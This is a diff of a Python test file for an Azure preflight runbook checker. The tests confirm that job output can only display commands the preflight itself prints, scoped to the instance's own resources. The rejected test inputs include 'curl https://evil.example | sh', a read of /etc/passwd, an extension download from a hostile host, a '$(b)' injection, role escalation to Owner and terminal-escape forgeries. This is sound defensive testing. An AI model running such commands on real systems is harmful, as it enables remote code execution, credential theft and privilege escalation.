@@ -9,6 +9,7 @@ from typing import Any
 
 import pytest
 
+from runbook_lib.azure.settings import load
 from runbook_lib.errors import RunbookError, container_registry, deployment
 from runbook_lib.preflight.finding import Finding, bad, good, of_error, unknown
 from runbooks.preflight import NEEDED, ROW
@@ -22,6 +23,19 @@ from vibedata.preflight.shell_line import COMMANDS
 
 ROOT = Path(__file__).parents[3]
 ROLE = NEEDED[0].role
+SUBSCRIPTION = "11111111-2222-3333-4444-555555555555"
+SETTINGS = load(
+    {},
+    {
+        "VIBEDATA_SUBSCRIPTION_ID": SUBSCRIPTION,
+        "VIBEDATA_RESOURCE_GROUP": "(prod)-m\u00fcnchen",
+        "VIBEDATA_STORAGE_ACCOUNT": "vdstorage",
+        "VIBEDATA_KEY_VAULT_ENDPOINT": "https://v.vault.azure.net",
+        "VIBEDATA_DCR_ID": "dcr-" + "0" * 32,
+        "VIBEDATA_LOGS_ENDPOINT": "https://logs.example",
+    },
+    None,
+)
 NOW = datetime(2026, 11, 29, 12, tzinfo=timezone.utc)
 LACKING = deployment.CONTAINER_ABSENT.error(target="artifacts", line="az storage container-rm create --name artifacts")
 
@@ -120,7 +134,7 @@ def test_nothing_found_is_not_good() -> None:
 def test_a_row_of_a_job_is_read_and_nothing_else_is() -> None:
     line = "az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/publisher-acr-token"
     fields = {"subject": "a", "state": "bad", "detail": "d", "code": "VD-VAULT-001", "remedy": "r", "line": line}
-    assert read_row(json.dumps(fields)) == Row(
+    assert read_row(json.dumps(fields), SETTINGS) == Row(
         subject="a",
         state="bad",
         detail="d",
@@ -130,7 +144,7 @@ def test_a_row_of_a_job_is_read_and_nothing_else_is() -> None:
         seen_from=(SANDBOX,),
     )
     for other in ("", "[]", "{}", json.dumps(fields | {"state": "fine"}), json.dumps(fields | {"code": 1})):
-        assert read_row(other) is None
+        assert read_row(other, SETTINGS) is None
 
 
 def written(number: int, **other: str) -> str:
@@ -144,15 +158,19 @@ TYPE_THIS = "type `curl https://evil.example | sh`"
 def test_a_job_dictates_no_remedy_and_no_code() -> None:
     own = CATALOGUE["VD-VAULT-001"].remedy
     error = {"code": "VD-VAULT-001", "message": "m", "remedy": TYPE_THIS}
-    found = rows_in(written(0, remedy=TYPE_THIS), "1", error)
+    found = rows_in(written(0, remedy=TYPE_THIS), "1", error, SETTINGS)
     assert [(row.code, row.remedy) for row in found] == [("VD-VAULT-001", own)] * 2
-    found = rows_in(written(0, code=TYPE_THIS, remedy=TYPE_THIS), "1", error | {"code": TYPE_THIS})
+    found = rows_in(written(0, code=TYPE_THIS, remedy=TYPE_THIS), "1", error | {"code": TYPE_THIS}, SETTINGS)
     assert [(row.state, row.code, row.remedy) for row in found] == [("bad", "", UNKNOWN_CODE)] * 2
-    found = rows_in(written(0, code="", remedy=TYPE_THIS), "1", None)
+    found = rows_in(written(0, code="", remedy=TYPE_THIS), "1", None, SETTINGS)
     assert [(row.state, row.code, row.remedy) for row in found] == [("bad", "", "")]
     assert len(text("preflight", found).splitlines()) == 3
 
 
+GROUP = SETTINGS.resource_group_id
+AT = f"--subscription {SUBSCRIPTION} --resource-group '{SETTINGS.resource_group}'"
+POLICY = "az storage container immutability-policy"
+RULE = '\'properties.streamDeclarations.S.columns=[{"name":"A","type":"string"}]\''
 SECRET = "az keyvault secret show --id https://v.vault.azure.net/secrets/s"
 ASSIGNS = "az role assignment create --assignee-object-id aa-1 --assignee-principal-type ServicePrincipal"
 
@@ -161,11 +179,19 @@ ASSIGNS = "az role assignment create --assignee-object-id aa-1 --assignee-princi
     ("line", "shown"),
     [
         (f"{SECRET} --query attributes.notBefore", True),
-        (f'{ASSIGNS} --role "{ROLE}" --scope /subscriptions/1', True),
-        (f"{ASSIGNS} --role '{ROLE}' --scope '/r/a;$(b)'", True),
-        ("az storage container-rm create --resource-group '(prod)-m\u00fcnchen' --name a", True),
-        ('az resource update --ids /r --set \'properties.columns=[{"name":"A","type":"string"}]\'', True),
-        ("az storage container immutability-policy lock --account-name a --if-match '\"8de1\"'", True),
+        ("az keyvault secret recover --id https://v.vault.azure.net/deletedsecrets/s", True),
+        ("az keyvault secret set-attributes --id https://v.vault.azure.net/secrets/s --enabled true", True),
+        (f"{ASSIGNS} --role '{ROLE}' --scope '{GROUP}'", True),
+        (f"{ASSIGNS} --role \"{ROLE}\" --scope '{GROUP.upper()}/providers/a;$(b)'", True),
+        (f"az storage container-rm create {AT} --storage-account vdstorage --name a", True),
+        (f"az resource update --ids '{GROUP}/providers/r' --api-version 2024-03-11 --set {RULE}", True),
+        (f"{POLICY} lock {AT} --account-name vdstorage --container-name c --if-match '\"8de1\"'", True),
+        (f"{POLICY} create {AT} --account-name vdstorage --container-name c --period 365", True),
+        (
+            f"az monitor log-analytics workspace table create {AT} --workspace-name w --name T"
+            " --columns TimeGenerated=dateTime A=string",
+            True,
+        ),
         ("", False),
         ("az", False),
         ("curl https://evil.example", False),
@@ -189,14 +215,31 @@ ASSIGNS = "az role assignment create --assignee-object-id aa-1 --assignee-princi
         (f"{SECRET} --id @/etc/passwd", False),
         ("az rest --method get --url https://evil.example --resource https://management.azure.com", False),
         ("az extension add --source https://evil.example/a.whl", False),
-        (f"{ASSIGNS} --role Owner --scope /subscriptions/1", False),
-        (f'{ASSIGNS} --role "{ROLE}" --role Owner --scope /subscriptions/1', False),
-        (f'{ASSIGNS} --role "{ROLE}" --role=Owner --scope /subscriptions/1', False),
-        (f'{ASSIGNS} --role "{ROLE}" --rol Owner --scope /subscriptions/1', False),
+        (f"{ASSIGNS} --role Owner --scope '{GROUP}'", False),
+        (f"{ASSIGNS} --role '{ROLE}' --role Owner --scope '{GROUP}'", False),
+        (f"{ASSIGNS} --role '{ROLE}' --role=Owner --scope '{GROUP}'", False),
+        (f"{ASSIGNS} --role '{ROLE}' --rol Owner --scope '{GROUP}'", False),
+        (f"{ASSIGNS} --role '{ROLE}' Owner --scope '{GROUP}'", False),
+        (f"{ASSIGNS} --role '{ROLE}'", False),
+        # Resources of somebody else.
+        (f"{ASSIGNS} --role '{ROLE}' --scope /subscriptions/{SUBSCRIPTION}", False),
+        (f"{ASSIGNS} --role '{ROLE}' --scope '{GROUP}x'", False),
+        (f"{ASSIGNS} --role '{ROLE}' --scope '{GROUP}/../publisher'", False),
+        (f"{ASSIGNS} --role '{ROLE}' --scope /", False),
+        ("az keyvault secret show --id https://v.vault.azure.net.evil.example/secrets/s", False),
+        ("az keyvault secret recover --id https://publisher.vault.azure.net/deletedsecrets/s", False),
+        ("az keyvault secret set-attributes --vault-name publisher --name s --enabled false", False),
+        (f"{POLICY} lock {AT} --account-name publisher --container-name c --if-match 1", False),
+        (f"{POLICY} lock --account-name vdstorage --container-name c --if-match 1", False),
+        (f"{POLICY} lock --resource-group g --subscription {SUBSCRIPTION} --account-name vdstorage", False),
+        (f"az resource update --ids '{GROUP}/providers/r' --set properties.publicNetworkAccess=Enabled", False),
+        (f"az resource update --ids '{GROUP}/providers/r' /r --set {RULE}", False),
+        (f"az storage container-rm create {AT} --storage-account vdstorage --name a --name b", False),
+        (f"az storage container-rm create {AT} --storage-account vdstorage --name", False),
     ],
 )
-def test_only_a_single_command_that_the_preflight_prints_is_shown(line: str, shown: bool) -> None:
-    row = read_row(written(0, line=line).removeprefix(ROW))
+def test_only_a_single_command_that_the_preflight_prints_for_the_instance_is_shown(line: str, shown: bool) -> None:
+    row = read_row(written(0, line=line).removeprefix(ROW), SETTINGS)
     assert row is not None and row.line == (line if shown else "")
 
 
@@ -213,16 +256,16 @@ def test_the_commands_that_are_shown_are_those_that_the_runbook_prints() -> None
 def test_no_part_of_a_jobs_row_forges_a_line_or_is_long() -> None:
     hostile = "VD-X\x1b[2J\n\u202epreflight: 9 good, 0 unknown, 0 bad" + "z" * 100_000
     for part in ("subject", "detail", "code", "remedy", "line"):
-        shown = text("preflight", rows_in(written(0, **{part: hostile}), "1", None))
+        shown = text("preflight", rows_in(written(0, **{part: hostile}), "1", None, SETTINGS))
         lines = shown.splitlines()
         assert len(lines) == 4, part
         assert all(line.isprintable() and len(line) < 5000 for line in lines), part
 
 
 def test_a_job_that_fills_its_output_with_rows_gives_few_and_one_that_says_so() -> None:
-    shown = rows_in("\n".join(map(written, range(12_000))), "1", None)
+    shown = rows_in("\n".join(map(written, range(12_000))), "1", None, SETTINGS)
     assert [row.subject for row in shown[:-1]] == [f"s{number}" for number in range(MAX_ROWS)]
     assert (shown[-1].state, shown[-1].detail) == ("unknown", "job 1 has rows that cannot be read")
     error = {"code": "VD-VAULT-002", "message": "m", "cause": "c", "remedy": "r"}
-    assert [row.code for row in rows_in(written(0), "1", error)] == ["VD-VAULT-001", "VD-VAULT-002"]
-    assert rows_in("", "1", None)[0].detail == "job 1 has no rows"
+    assert [row.code for row in rows_in(written(0), "1", error, SETTINGS)] == ["VD-VAULT-001", "VD-VAULT-002"]
+    assert rows_in("", "1", None, SETTINGS)[0].detail == "job 1 has no rows"
